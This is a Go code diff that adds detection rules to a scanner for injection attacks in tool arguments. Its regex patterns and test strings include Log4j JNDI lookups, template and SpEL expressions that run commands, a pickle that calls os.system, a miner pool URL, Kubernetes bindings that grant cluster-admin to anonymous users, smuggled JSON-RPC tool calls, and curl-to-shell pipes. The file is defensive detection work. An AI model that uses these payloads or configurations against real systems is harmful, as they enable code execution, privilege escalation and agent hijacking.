@@ -37,7 +37,7 @@ var injectRules = []Rule{
 		NoMatch: []string{"<%= user.name %>", "<% if x %>"},
 	},
 	{
-		Kind: "template-injection", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
+		Kind: "template-injection", Family: Commands, Score: High, Places: []Place{Argument}, Check: handedOn,
 		Doc:     "A look-up of Log4j that loads code from elsewhere, nested look-ups that only hide it included.",
 		Pattern: `(?i)\$\{jndi\b|\$\{\$\{(?:lower|upper|env|date|sys):[^}]{0,40}\}[^\n]{0,100}:|\$\{\$\{::-[^\n]{0,100}:`,
 		Match:   []string{"${jndi:ldap://x.example/a}", "${${lower:j}ndi:rmi://x.example/a}", "${${::-j}${::-n}di:dns://x.example}"},
@@ -100,6 +100,69 @@ var injectRules = []Rule{
 		NoMatch: []string{"privileged: false", "hostPath:\n      path: /data/app\n", "volumes:\n - ./src:/app", "privileged users"},
 	},
 	{
+		Kind: "template-injection", Family: Commands, Score: High, Places: []Place{Argument}, Check: handedOn,
+		Doc:     "A template expression that starts a process of Node's.",
+		Pattern: `(?:[#$]\{|\{\{|<%=?|---js\s)[^\n]{0,80}require\s{0,2}\(\s{0,2}["']child_process["']\s{0,2}\)`,
+		Match:   []string{"#{require('child_process').execSync('id')}", "---js\n((require(\"child_process\")).execSync(\"id\"))"},
+		NoMatch: []string{"const cp = require('child_process')", "#{user.name}"},
+	},
+	{
+		Kind: "code-execution", Family: Commands, Score: High, Places: []Place{Argument}, Check: notInDocument,
+		Doc:     "Java's runtime reached by its name from an expression of another language.",
+		Pattern: `(?:\bT\(java\.lang\.(?:Runtime|ProcessBuilder)\)|forName\(\s{0,2}["']java\.lang\.(?:Runtime|ProcessBuilder)["']\s{0,2}\))[^\n]{0,200}(?:exec|start|getRuntime|invoke)`,
+		Match:   []string{"T(java.lang.Runtime).getRuntime().exec('id')", `x.class.forName("java.lang.Runtime").getRuntime().exec("id")`},
+		NoMatch: []string{"Class.forName(\"com.example.A\")", "T(java.lang.Math).random()"},
+	},
+	{
+		Kind: "code-execution", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
+		Doc:     "A pickle of Python's that calls the system when it is loaded.",
+		Pattern: `\bc(?:os|posix|nt|subprocess|builtins|__builtin__|pty|commands)\n(?:system|popen|exec|eval|Popen|call|check_output|getoutput|run|spawn|__import__)\n`,
+		Match:   []string{"cos\nsystem\n(S'id'\ntR."},
+		NoMatch: []string{"import os\nsystem\n"},
+	},
+	{
+		Kind: "code-execution", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
+		Doc:     "The address of a pool that miners of coins work for.",
+		Pattern: `(?i)\bstratum\d?\+(?:tcp|ssl|tls|udp)://[\w.-]{3,128}`,
+		Match:   []string{"--url stratum+tcp://pool.x.example:3333"},
+		NoMatch: []string{"stratum of rock", "tcp://x.example:3333"},
+	},
+	{
+		Kind: "privilege-change", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
+		Doc:     "A cluster's role binding that makes everybody, or every program, its administrator.",
+		Pattern: `ClusterRoleBinding\b[^\0]{0,600}(?:cluster-admin\b[^\0]{0,400}system:(?:unauthenticated|anonymous|authenticated|serviceaccounts\b)|system:(?:unauthenticated|anonymous|authenticated|serviceaccounts\b)[^\0]{0,400}cluster-admin)`,
+		Match:   []string{"kind: ClusterRoleBinding\nroleRef: {kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: Group, name: 'system:unauthenticated'}]"},
+		NoMatch: []string{"kind: ClusterRoleBinding\nroleRef: {name: view}\nsubjects: [{kind: Group, name: 'system:authenticated'}]", "kind: ClusterRoleBinding\nroleRef: {name: cluster-admin}\nsubjects: [{kind: User, name: kim}]"},
+	},
+	{
+		Kind: "privilege-change", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
+		Doc:     "A role of the cluster's own that is given everything.",
+		Pattern: `ClusterRole\b[^\0]{0,200}name:\s{0,2}["']?system:[^\0]{0,200}(?:verbs:\s{0,4}\[?\s{0,4}-?\s{0,2}["']\*["'])`,
+		Match:   []string{"kind: ClusterRole\nmetadata: {name: system:viewer}\nrules: [{resources: ['*'], verbs: ['*']}]"},
+		NoMatch: []string{"kind: ClusterRole\nmetadata: {name: system:viewer}\nrules: [{resources: [pods], verbs: [get]}]"},
+	},
+	{
+		Kind: "exfiltration", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
+		Doc:     "An admission webhook that hands a cluster's objects to an address outside.",
+		Pattern: `(?:Mutating|Validating)WebhookConfiguration\b[^\0]{0,600}\burl["']?\s{0,2}:\s{0,2}["']?https?://[\w-]{1,64}(?:\.[\w-]{1,64}){1,6}\.(?:io|com|net|org|dev|app|xyz|top|cc|ru|info|site|online|me|sh|co)\b`,
+		Match:   []string{"kind: MutatingWebhookConfiguration\nwebhooks:\n- clientConfig: {url: 'https://a.b.io/m'}"},
+		NoMatch: []string{"kind: MutatingWebhookConfiguration\nwebhooks:\n- clientConfig: {service: {name: a, namespace: b}}"},
+	},
+	{
+		Kind: "command-injection", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
+		Doc:     "A message of the protocol behind a line break in a value: a call smuggled into a stream.",
+		Pattern: `[\r\n]\s{0,8}\{\s{0,4}"jsonrpc"\s{0,4}:\s{0,4}"2\.0"[^\n]{0,200}"method"\s{0,4}:\s{0,4}"(?:tools/call|resources/read|sampling/createMessage)"`,
+		Match:   []string{"x\r\n\r\n{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{}}"},
+		NoMatch: []string{`{"jsonrpc":"2.0","id":1,"method":"tools/call"}`, "jsonrpc\nmethod"},
+	},
+	{
+		Kind: "command-injection", Family: Commands, Score: High, Places: []Place{Argument}, Check: isLabel,
+		Doc:     "A short name or title that goes on with a download into a shell.",
+		Pattern: `(?:[;&|]|\$\(|\x60)\s{0,3}(?:curl|wget)\s[^|\n]{3,160}\|\s{0,3}(?:sudo\s)?(?:ba|z|da)?sh\b`,
+		Match:   nil,
+		NoMatch: []string{"install with curl", "a; b"},
+	},
+	{
 		Kind: "kill-security", Family: Commands, Score: Medium, Places: []Place{Argument},
 		Doc:     "A setting of an editor or agent that lets tools run without asking.",
 		Pattern: `"(?:chat\.tools\.(?:global\.)?autoApprove|chat\.tools\.terminal\.autoApprove|cline\.autoApprove\w{0,40}|roo-cline\.\w{0,20}alwaysAllow\w{0,20}|cursor\.\w{0,20}yolo\w{0,20}|enableAllProjectMcpServers|security\.workspace\.trust\.enabled)"\s{0,4}:\s{0,4}(?:true|\{|false\b)`,
@@ -138,6 +201,24 @@ func notInDocument(_ string, v *View, _, _ int) bool {
 func notStored(_ string, v *View, _, _ int) bool {
 	r := v.role()
 	return r != roleElsewhere && (r != roleDocument || !v.named().writer && !isSender(v.Of.Tool))
+}
+
+// handedOn reports whether a text is worked on, or is short and begins with what was
+// found: such a thing is no sentence about it.
+func handedOn(found string, v *View, start, end int) bool {
+	if notStored(found, v, start, end) {
+		return true
+	}
+	return v.role() == roleDocument && len(v.Text) < 400 && strings.TrimSpace(v.Text[:start]) == ""
+}
+
+// isLabel reports whether a text is what something is called.
+func isLabel(_ string, v *View, _, _ int) bool {
+	switch v.named().folded {
+	case "title", "label", "name", "displayname", "branch", "branchname", "tag", "subject", "ref", "key", "id", "filename":
+		return len(v.Text) < 200
+	}
+	return false
 }
 
 // isSender reports whether a tool's name says that it hands texts to people.
